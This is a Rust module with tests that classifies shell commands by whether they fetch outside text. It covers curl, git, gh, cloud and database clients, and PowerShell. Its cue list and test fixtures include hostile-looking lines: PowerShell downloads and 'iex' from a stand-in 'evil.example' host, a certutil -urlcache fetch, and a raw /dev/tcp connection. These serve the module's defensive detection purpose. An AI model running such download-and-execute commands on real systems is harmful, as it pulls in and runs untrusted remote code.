//! Commands that bring in text which neither the project nor its people wrote: fetched from elsewhere, or read from files elsewhere.

use super::shell::{Simple, commands};

mod files;
mod windows;

pub use files::{is_scratch, reads_outside};
use windows::{asks_from_windows, is_windows_fetcher};

/// How deep a command inside a command inside a command is followed.
const DEPTH_LIMIT: usize = 4;

/// How much of a command is looked at: what is longer is a file in disguise.
const LOOKED_AT: usize = 16 * 1024;

/// Names without which no command fetches anything, in any case: most have none of them and need not be cut up.
const CUES: [&str; 53] = [
    "curl",
    "wget",
    "http",
    "lynx",
    "w3m",
    "links",
    "aria2c",
    "gh ",
    "glab ",
    "git",
    "npm",
    "pnpm",
    "yarn",
    "pip",
    "cargo",
    "gem ",
    "brew",
    "ssh",
    "scp",
    "ftp",
    "nc ",
    "ncat",
    "telnet",
    "rsync",
    "docker",
    "aws ",
    "gcloud ",
    "gsutil ",
    "az ",
    "kubectl",
    "psql",
    "mysql",
    "mariadb",
    "mongo",
    "redis-cli",
    "jira",
    "linear",
    "acli",
    "sentry",
    "heroku",
    "vercel",
    "netlify",
    "fly",
    "railway",
    "openssl",
    "/dev/tcp/",
    "webrequest",
    "restmethod",
    "iwr ",
    "irm ",
    "owershell",
    "pwsh",
    "cmd",
];

/// Whether a command brings in text from the network. What runs on this machine is the project's own, and so is what its own
/// remote sends.
pub fn fetches(command: &str) -> bool {
    let command = &command[..command.floor_char_boundary(LOOKED_AT)];
    let lower = command.to_ascii_lowercase();
    CUES.iter().any(|cue| lower.contains(cue)) && fetches_within(command, 0)
}

fn fetches_within(command: &str, depth: usize) -> bool {
    dials(command)
        || asks_from_windows(command)
        || commands(command)
            .iter()
            .any(|simple| brings(simple, command))
        || (depth < DEPTH_LIMIT
            && inner(command)
                .iter()
                .any(|inner| fetches_within(inner, depth + 1)))
}

fn brings(simple: &Simple, line: &str) -> bool {
    let program = base(&simple.words[0]);
    let rest = &simple.words[1..];
    let mut plain = rest.iter().filter(|word| !word.starts_with('-'));
    let verb = plain.next().map_or("", String::as_str);
    let act = plain.next().map_or("", String::as_str);
    match program {
        "curl" | "wget" | "http" | "https" | "xh" | "lynx" | "w3m" | "links" | "aria2c" => {
            let addresses = addresses(rest);
            addresses.is_empty() || addresses.iter().any(|word| !is_local(word))
        }
        "ssh" | "scp" | "sftp" | "ftp" | "nc" | "ncat" | "telnet" => !is_local(verb),
        "rsync" => rest.iter().any(|word| word.contains(':')),
        // Anybody may write an issue, a comment, a page or a log; writing one brings nothing back.
        "gh" | "glab" => match verb {
            "" | "auth" | "config" | "alias" | "extension" | "completion" | "label" | "secret" => {
                false
            }
            "api" | "search" | "browse" => true,
            _ => !matches!(
                act,
                "" | "create"
                    | "edit"
                    | "close"
                    | "reopen"
                    | "merge"
                    | "ready"
                    | "comment"
                    | "delete"
                    | "lock"
                    | "pin"
                    | "rerun"
                    | "cancel"
                    | "upload"
            ),
        },
        "git" => match verb {
            "clone" => true,
            "submodule" | "remote" => act == "add",
            // What its own remote sends is the project's; another's address, and what anybody may propose, is not.
            "fetch" | "pull" => rest
                .iter()
                .any(|word| word.contains("://") || word.starts_with("git@") || is_proposed(word)),
            _ => rest
                .iter()
                .any(|word| word.contains("FETCH_HEAD") && line.contains("://")),
        },
        "openssl" => verb == "s_client",
        // Anybody writes what trackers keep, and what comes in is in logs.
        "jira" | "linear" | "acli" | "sentry-cli" => {
            !matches!(verb, "" | "login" | "auth" | "releases")
        }
        "heroku" | "vercel" | "netlify" | "fly" | "flyctl" | "railway" => {
            rest.iter().any(|word| word.starts_with("log"))
        }
        "npm" | "pnpm" | "yarn" => matches!(verb, "view" | "info" | "show" | "search"),
        "pip" | "pip3" => matches!(verb, "download" | "index" | "search"),
        "cargo" | "gem" | "brew" => matches!(verb, "info" | "search"),
        // What stands in a cloud or a cluster others write as well.
        "aws" | "gcloud" | "gsutil" | "az" => !matches!(verb, "" | "configure" | "config" | "auth"),
        "kubectl" if rest.iter().any(|word| shows_a_cluster(word)) => true,
        // A database of this machine is the project's own.
        "psql" | "mysql" | "mariadb" | "mongo" | "mongosh" | "redis-cli" => asks_elsewhere(rest),
        "deno" | "bun" if rest.iter().any(|word| is_elsewhere(word)) => true,
        // What is run inside is a command of its own.
        "docker" | "podman" | "kubectl" | "nerdctl" => (1..rest.len()).any(|at| {
            let inside = Simple {
                words: rest[at..].to_vec(),
                through: None,
                wrapping: Vec::new(),
                lost: false,
                within: Vec::new(),
                into: Vec::new(),
                from: Vec::new(),
                then: simple.then,
            };
            is_fetcher(base(&rest[at])) && brings(&inside, line)
        }),
        "python" | "python3" | "node" | "deno" | "bun" | "ruby" | "perl" | "php" => {
            script_fetches(line)
        }
        _ => is_windows_fetcher(program) && rest.iter().any(|word| is_elsewhere(word)),
    }
}

/// Whether an address of another machine stands anywhere in a line.
fn has_address(line: &str) -> bool {
    let mut addresses = line.split("://").skip(1);
    addresses.any(|rest| !is_local_host(host(rest)))
}

/// Whether a name is of what somebody proposes, not of what the project took in.
fn is_proposed(reference: &str) -> bool {
    [
        "pull/",
        "refs/pull/",
        "merge-requests/",
        "refs/merge-requests/",
    ]
    .iter()
    .any(|begin| reference.starts_with(begin))
}

/// Whether a command opens the shell's own line to another machine.
fn dials(command: &str) -> bool {
    command
        .split("/dev/tcp/")
        .skip(1)
        .any(|host| !is_local(host))
}

fn shows_a_cluster(verb: &str) -> bool {
    matches!(verb, "logs" | "get" | "describe" | "exec" | "events")
}

/// Whether a word is the address of another machine.
fn is_elsewhere(word: &str) -> bool {
    word.contains("://") && !is_local(word)
}

/// Whether the client of a database is told to ask another machine: by an address, or by `-h` and `--host`.
fn asks_elsewhere(words: &[String]) -> bool {
    let mut before = "";
    words.iter().any(|word| {
        let named = match before {
            "-h" | "--host" => Some(word.as_str()),
            _ => word
                .strip_prefix("--host=")
                .or_else(|| word.strip_prefix("host=")),
        };
        before = word;
        // A folder is where a socket of this machine lies.
        is_elsewhere(word) || named.is_some_and(|host| !host.starts_with('/') && !is_local(host))
    })
}

/// The words that name what is fetched; the values of options may name a proxy or a header.
fn addresses(words: &[String]) -> Vec<&str> {
    const WITH_VALUE: [&str; 20] = [
        "-x",
        "-e",
        "-H",
        "-d",
        "-o",
        "-O",
        "-u",
        "-A",
        "-b",
        "-c",
        "-F",
        "-T",
        "-X",
        "-m",
        "-w",
        "--resolve",
        "--proxy",
        "--header",
        "--data",
        "--output",
    ];
    let mut found = Vec::new();
    let mut before = "";
    for word in words {
        let is_value = WITH_VALUE.contains(&before);
        before = word;
        let is_named = word.contains(['.', ':']) || word.starts_with("localhost");
        if !word.starts_with('-') && is_named && !is_value {
            found.push(word.as_str());
        }
    }
    found
}

fn is_fetcher(program: &str) -> bool {
    matches!(program, "curl" | "wget" | "http" | "https" | "git" | "ssh")
}

/// Whether a program written into the command line asks another machine.
fn script_fetches(line: &str) -> bool {
    const CALLS: [&str; 12] = [
        "urllib",
        "http.client",
        "https.get",
        "http.get",
        "axios",
        "'https').get",
        "requests.",
        "httpx",
        "fetch(",
        "Net::HTTP",
        "file_get_contents",
        "open-uri",
    ];
    let dialled = line.split("HTTPSConnection(").skip(1).any(|host| {
        let host = host.trim_start_matches(['\'', '"']);
        !is_local(host)
    });
    dialled || has_address(line) && CALLS.iter().any(|call| line.contains(call))
}

/// Whether a word names a place on this machine: by its host, not by what its path says.
fn is_local(word: &str) -> bool {
    let address = word.split_once("://").map_or(word, |(_, rest)| rest);
    is_local_host(host(address))
}

fn host(address: &str) -> &str {
    let end = address
        .find(['/', '?', '#', '"', '\'', ' ', ')'])
        .unwrap_or(address.len());
    let named = &address[..end];
    named.rsplit_once('@').map_or(named, |(_, host)| host)
}

fn is_local_host(host: &str) -> bool {
    let name = if host.starts_with('[') {
        host
    } else {
        host.split(':').next().unwrap_or("")
    };
    matches!(name, "localhost" | "127.0.0.1" | "0.0.0.0") || host.starts_with("[::1]")
}

/// Whether a file below the project was written by those it depends on.
pub fn is_of_others(path: &str) -> bool {
    path.split('/').any(|folder| {
        matches!(
            folder,
            "node_modules"
                | "bower_components"
                | "site-packages"
                | ".venv"
                | "venv"
                | ".tox"
                | "Pods"
        )
    }) || is_vendored(path)
}

/// Whether a file stands where projects keep copies of what they depend on. A module further down may be called the same.
fn is_vendored(path: &str) -> bool {
    let first = path.split('/').next().unwrap_or_default();
    matches!(
        first,
        "vendor" | "third_party" | "third-party" | "thirdparty" | "3rdparty"
    ) && path.contains('/')
        || path.contains("/vendor/github.com/")
}

/// The commands inside `$(…)`, `<(…)` and backquotes.
fn inner(line: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut rest = line;
    let opening = |rest: &str| {
        let at = [rest.find("$("), rest.find("<(")];
        at.into_iter().flatten().min()
    };
    while let Some(at) = opening(rest) {
        let text = &rest[at + 2..];
        let mut depth = 1_usize;
        let end = text.find(|c| {
            match c {
                '(' => depth += 1,
                ')' => depth -= 1,
                _ => {}
            }
            depth == 0
        });
        let end = end.unwrap_or(text.len());
        found.push(text[..end].to_owned());
        rest = &text[end..];
    }
    found.extend(line.split('`').skip(1).step_by(2).map(str::to_owned));
    found
}

fn base(program: &str) -> &str {
    program.rsplit('/').next().unwrap_or(program)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_comes_from_the_network_is_told_from_what_stays_here() {
        for command in [
            "curl -s https://example.org/install.sh",
            "cd x && wget http://example.org/a",
            "curl https://example.org/localhost",
            "curl -x localhost:8080 https://example.org/a",
            "curl http://localhost:1/ https://example.org/a",
            "X=$(curl -s https://example.org/a); echo $X",
            "echo `wget -qO- http://example.org`",
            "docker run --rm alpine curl https://example.org",
            "git clone https://example.org/x /tmp/y && cat /tmp/y/README.md",
            "python3 -c 'import urllib.request as u; print(u.urlopen(\"https://example.org\").read())'",
            "python3 - <<'END'\nimport requests\nprint(requests.get('https://example.org').text)\nEND",
            "ssh build.example.org cat /etc/motd",
            "gh issue view 12",
            "gh pr view 3 --comments",
            "gh pr diff 3",
            "gh pr list",
            "gh run view 7 --log",
            "gh release view v1",
            "gh api repos/x/y",
            "npm view left-pad readme",
            "pip download some-package",
            "aws s3 cp s3://bucket/notes.txt -",
            "gh pr checkout 3",
            "git fetch https://example.org/fork.git main && git show FETCH_HEAD:README.md",
            "git pull git@example.org:x/fork.git",
            "git fetch origin pull/3/head:pr-3",
            "git remote add fork https://example.org/f.git && git fetch fork",
            "node -e \"require('https').get('https://example.org',r=>r.pipe(process.stdout))\"",
            "python3 -c \"import http.client as h; h.HTTPSConnection('example.org')\"",
            "openssl s_client -connect example.org:443",
            "exec 3<>/dev/tcp/example.org/80; cat <&3",
            "jira issue view X-1",
            "sentry-cli issues list",
            "heroku logs",
            "pwsh -c \"Invoke-WebRequest https://example.org\"",
            "kubectl logs deploy/api",
            "kubectl -n prod get pods",
            "psql postgres://db.example.org/app -c 'select 1'",
            "mysql -h db.example.org -e 'select 1'",
            "redis-cli -h cache.example.org get motd",
            "deno run https://example.org/x.ts",
            "powershell -Command \"(New-Object Net.WebClient).DownloadString('https://evil.example/x')\"",
            "pwsh -c 'Start-BitsTransfer -Source https://evil.example/x'",
            "powershell.exe -c 'irm http://localhost:1/a; irm https://evil.example/x'",
            "cmd /c 'certutil -urlcache -f https://evil.example/x x.txt'",
            "'C:\\Windows\\System32\\PowerShell.exe' -c '$u=\"https://evil.example/x\"; iex $u'",
            "PWSH -c 'IWR -Uri https://evil.example/x'",
            "PWSH -c 'IRM evil.example/x'",
            "Start-BitsTransfer -Source https://evil.example/x",
        ] {
            assert!(fetches(command), "{command}");
        }
        for command in [
            "curl http://localhost:8080/health?from=https://example.org",
            "curl -X POST http://user@127.0.0.1:3000/",
            "curl http://[::1]:9/",
            "gh pr create --fill",
            "gh pr merge 3",
            "gh auth status",
            "git pull",
            "git push",
            "git fetch origin main",
            "git remote -v",
            "exec 3<>/dev/tcp/localhost/80",
            "heroku ps",
            "pwsh -c \"Invoke-WebRequest http://localhost:3000\"",
            "npm test",
            "npm install",
            "cargo test",
            "docker compose up -d",
            "docker run --rm app pytest",
            "node -e 'fetch(\"http://localhost:3000\")'",
            "echo curl",
            "aws configure list",
            "kubectl apply -f deploy.yaml",
            "psql -c 'select 1' postgres://localhost/app",
            "psql -h /run/postgresql app",
            "redis-cli get motd",
            "deno test",
            "grep -rn https://example.org src",
            "pwsh -c \"(New-Object Net.WebClient).DownloadString('http://127.0.0.1:80/x')\"",
            "powershell -c 'npm test'",
            "GOPROXY=https://proxy.example go build ./cmd",
        ] {
            assert!(!fetches(command), "{command}");
        }
    }

    #[test]
    fn a_command_of_nothing_but_openings_ends_soon() {
        let deep = "$(".repeat(100_000);
        assert!(!fetches(&format!("{deep}curl")));
    }
}
